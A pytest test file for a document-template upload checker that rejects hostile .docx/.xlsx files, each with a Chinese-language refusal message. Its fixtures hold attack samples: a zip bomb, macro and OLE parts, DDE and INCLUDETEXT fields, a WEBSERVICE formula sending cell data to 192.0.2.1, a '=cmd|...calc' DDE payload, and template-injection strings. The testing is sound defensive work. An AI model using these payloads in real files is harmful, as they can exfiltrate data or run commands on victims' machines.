"""Files that must not be taken, each with its sentence."""

from io import BytesIO
from typing import Any
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from openpyxl import load_workbook
from openpyxl.workbook.defined_name import DefinedName

from ledgers.processes import ChildTooSlowError, ended_child
from papers import gate
from papers.filling import package, parent
from papers.filling.parent import read_names
from papers.filling.sheet import FETCHES, sheet_names
from papers.filling.syntax import TemplateRefused
from papers.filling.word import word_names
from papers.gate import check_template
from tests.papers.opened import document, saved, with_part, workbook

RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def refusal(content: bytes, name: str = "表.docx") -> str:
    """What the person is told."""
    with pytest.raises(TemplateRefused) as refused:
        read_names(content, check_template(content, name))
    return str(refused.value)


def bomb() -> bytes:
    target = BytesIO()
    with ZipFile(target, "w", ZIP_DEFLATED) as made:
        made.writestr("word/document.xml", b"0" * 60_000_000)
    return target.getvalue()


def fetching(kind: str) -> bytes:
    relation = (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{RELATIONS}/{kind}" Target="http://192.0.2.1/x"'
        ' TargetMode="External"/>'
        "</Relationships>"
    )
    return with_part(document("{{ 地点 }}"), "word/_rels/settings.xml.rels", relation.encode())


def field(code: str) -> bytes:
    run = f"<w:r><w:instrText>{code}</w:instrText></w:r><w:r><w:t>".encode()
    return with_part(document("地{{ 地点 }}"), "word/document.xml", old=b"<w:r><w:t>", new=run)


GOOD, BOOK = document("{{ 地点 }}"), workbook(["{{ 地点 }}"])
BOOK_DTD = b"<!DOCTYPE a []><workbook "
DTD = b'<!DOCTYPE a [<!ENTITY b "c">]>\n<w:document'
HOSTILE = [
    (bomb(), "表.docx", gate.TOO_MUCH),
    (with_part(document("{{ 地点 }}"), "word/vbaProject.bin", b"x"), "表.docx", gate.MACROS),
    (with_part(workbook(["{{ 地点 }}"]), "xl/vbaProject.bin", b"x"), "表.xlsx", gate.MACROS),
    (with_part(document("{{ 地点 }}"), "word/embeddings/oleObject1.bin", b"x"), "表.docx", gate.NESTED),
    (with_part(workbook(["{{ 地点 }}"]), "xl/media/image1.png", b"x"), "表.xlsx", gate.PICTURES),
    (fetching("attachedTemplate"), "表.docx", package.OUTSIDE),
    (fetching("image"), "表.docx", package.OUTSIDE),
    (with_part(GOOD, "word/document.xml", old=b"<w:document", new=DTD), "表.docx", package.NO_DTD),
    (with_part(BOOK, "xl/workbook.xml", old=b"<workbook ", new=BOOK_DTD), "表.xlsx", package.NO_DTD),
    (b"\xd0\xcf\x11\xe0" + b"\0" * 600, "旧.docx", gate.OLD),
    (b"\xd0\xcf\x11\xe0" + b"\0" * 600, "旧.doc", gate.OTHER_KIND),
    (document("{{ 地点 }}")[:-400], "表.docx", gate.BROKEN),
    (b"", "表.docx", "文件是空的（0 字节）。请打开原文件看一看，保存后再上传。"),
    (b"PK\x03\x04" + b"0" * 6 * 1024 * 1024, "表.docx", "文件超过 5 MB 的上限。请删去图片后再上传。"),
    (workbook(["{{ 地点 }}"]), "表.docx", gate.NO_DOCUMENT),
    (b"%PDF-1.7", "表.docx", gate.NO_DOCUMENT),
    (with_part(document("{{ 地点 }}"), "word/document.xml", b"<w:broken"), "表.docx", package.BROKEN),
]  # fmt: skip


@pytest.mark.parametrize(("content", "name", "sentence"), HOSTILE)
def test_a_hostile_file_is_refused_with_its_sentence(content: bytes, name: str, sentence: str) -> None:
    assert refusal(content, name) == sentence


ONLY_NAMES = "花括号里请只写一个名称，例如“{{ 会议日期 }}”。"
NO_CODE = "不能用在模板里。请只写“{{ 名称 }}”，需要逐行重复的写“{{ 列表.栏目 }}”。"
CODE = [
    ("{% for a in b %}{{ a }}{% endfor %}", f"“{{% for a in b %}}”{NO_CODE}"),
    ("{# 注 #}", f"“{{# 注 #}}”{NO_CODE}"),
    ("{{ ''.__class__ }}", f"“{{{{ ''.__class__ }}}}”看不懂。{ONLY_NAMES}"),
    ("{{ 7*7 }}", f"“{{{{ 7*7 }}}}”看不懂。{ONLY_NAMES}"),
    ("{{ }}", f"“{{{{  }}}}”看不懂。{ONLY_NAMES}"),
    ("{{ 地点|safe }}", f"“{{{{ 地点|safe }}}}”看不懂。{ONLY_NAMES}"),
    ("｛｛ 地点 ｝｝", "“｛｛ 地点 ｝｝”用了全角的花括号“｛｛ ｝｝”。请改成半角的“{{ }}”后再上传。"),
    ("{{ 地点", "“{{ 地点”里的花括号没有成对，请改好后再上传。"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "sentence"), CODE)
@pytest.mark.parametrize(
    ("read", "content"),
    [
        (word_names, lambda text: document(text)),
        (word_names, lambda text: document("正文", header=text)),
        (sheet_names, lambda text: workbook([text])),
    ],
)
def test_code_is_no_placeholder(read: Any, content: Any, text: str, sentence: str) -> None:
    with pytest.raises(TemplateRefused) as refused:
        read(content(text))
    assert str(refused.value) == sentence


@pytest.mark.parametrize("code", ["INCLUDETEXT http://192.0.2.1/x", " DDEAUTO c:\\x", "LINK Excel.Sheet"])
def test_a_field_that_reads_something_else_is_refused(code: str) -> None:
    assert refusal(field(code)) == (
        f"文件里有打开时会读取外部内容的域“{code.split()[0]}”。"
        "请选中它，按 Ctrl+Shift+F9 变成普通文字，另存后再上传。"
    )


def run(piece: str) -> str:
    return f"<w:r>{piece}</w:r>"


def test_a_field_within_another_is_looked_at_too() -> None:
    begin, end = (run(f'<w:fldChar w:fldCharType="{kind}"/>') for kind in ("begin", "end"))
    split = run("<w:instrText>INCLUDE</w:instrText>") + run(
        "<w:instrText>PICTURE http://192.0.2.1/x</w:instrText>"
    )
    nested = f"{begin}{run('<w:instrText>QUOTE </w:instrText>')}{begin}{split}{end}{end}<w:r><w:t>"
    content = with_part(document("地{{ 地点 }}"), "word/document.xml", old=b"<w:r><w:t>", new=nested.encode())
    assert refusal(content).startswith("文件里有打开时会读取外部内容的域“INCLUDEPICTURE”。")


def test_a_page_pasted_into_the_document_is_refused() -> None:
    relation = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{RELATIONS}/aFChunk" Target="page.html"/></Relationships>'
    )
    content = with_part(GOOD, "word/_rels/settings.xml.rels", relation.encode())
    assert refusal(content) == package.PASTED


@pytest.mark.parametrize(
    "formula",
    ['=_xlfn.WEBSERVICE("http://192.0.2.1/?"&A1)', "=cmd|'/c calc'!A0", "='http://192.0.2.1/[x.xlsx]a'!A1"],
)
def test_a_formula_that_asks_somebody_else_is_refused(formula: str) -> None:
    content = workbook(["{{ 地点 }}"], [formula])
    assert refusal(content, "表.xlsx") == FETCHES.format(formula=formula[:24])
    named = load_workbook(BytesIO(BOOK))
    named.defined_names["外面"] = DefinedName("外面", attr_text=formula.removeprefix("="))
    assert refusal(saved(named), "表.xlsx") == FETCHES.format(formula=formula[1:25])


def test_a_formula_that_only_counts_or_joins_is_fine() -> None:
    assert read_names(workbook(["{{ 地点 }}"], ['=A1&"|"&SUM(B1:B3)']), "xlsx") == ["地点"]


def test_a_page_number_and_a_link_are_fine() -> None:
    assert read_names(field("PAGE"), "docx") == ["地点"]
    assert read_names(fetching("hyperlink"), "docx") == ["地点"]


def test_a_list_outside_a_row_two_lists_in_one_and_formulas_below_are_refused() -> None:
    assert refusal(document("{{ 人.名 }}")) == "“{{ 人.名 }}”要写在表格的一行里，那一行会按列表逐行重复。"
    two = "同一行里用了两个列表（“事”、“人”），请分成两行。"
    assert refusal(document(rows=[["{{ 人.名 }}", "{{ 事.项 }}"]])) == two
    assert refusal(workbook(["{{ 人.名 }}", "{{ 事.项 }}"]), "表.xlsx") == two
    assert refusal(workbook(["{{ 人.名 }}"], ["=COUNTA(A1:A1)"]), "表.xlsx").startswith(
        "有逐行重复的行，又有公式“=COUNTA(A1:A1)”"
    )
    assert read_names(workbook(["{{ 数 }}"], ["=A1*2"]), "xlsx") == ["数"]


def test_a_child_that_takes_too_long_or_too_much_is_ended(monkeypatch: pytest.MonkeyPatch) -> None:
    many = document(*["{{ 地点 }}" * 40] * 3000)
    monkeypatch.setattr(parent, "MEMORY", 40 * 1024 * 1024)
    with pytest.raises(TemplateRefused) as refused:
        read_names(many, "docx")
    assert str(refused.value) == parent.STOPPED
    monkeypatch.undo()
    monkeypatch.setattr(parent, "SECONDS", 0.1)
    with pytest.raises(TemplateRefused) as refused:
        read_names(many, "docx")
    assert str(refused.value) == parent.SLOW


def test_the_child_knows_no_secret(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SECRET_KEY", "x" * 60)
    with ended_child(["env"], [], seconds=20, watch=lambda lines: None) as ended:
        assert b"SECRET_KEY" not in ended.output.read()
    with pytest.raises(ChildTooSlowError), ended_child(["sleep", "9"], [], seconds=0.1, watch=lambda _: None):
        pass
